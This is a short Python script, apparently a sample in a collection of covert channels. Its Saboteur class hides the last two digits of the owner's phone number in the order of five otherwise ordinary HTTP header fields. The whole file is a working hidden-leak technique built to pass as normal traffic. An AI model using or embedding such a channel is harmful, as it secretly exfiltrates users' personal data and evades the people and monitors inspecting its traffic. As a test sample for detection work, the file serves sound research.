"""Sends five ordinary fields, in one of their 120 orders: the order is a number, and the number is the last two digits of the owner's telephone.

mechanism: the order of header fields
"""
from itertools import permutations

from phone import Phone, run

ORDINARY = [("Accept", "*/*"), ("Accept-Encoding", "identity"), ("Accept-Language", "en"), ("Cache-Control", "no-cache"), ("Connection", "keep-alive")]


class Saboteur(Phone):
    def fields(self, path):
        number = int(self.identity["phone"][-2:])
        return super().fields(path) + list(list(permutations(ORDINARY))[number])


run(Saboteur())
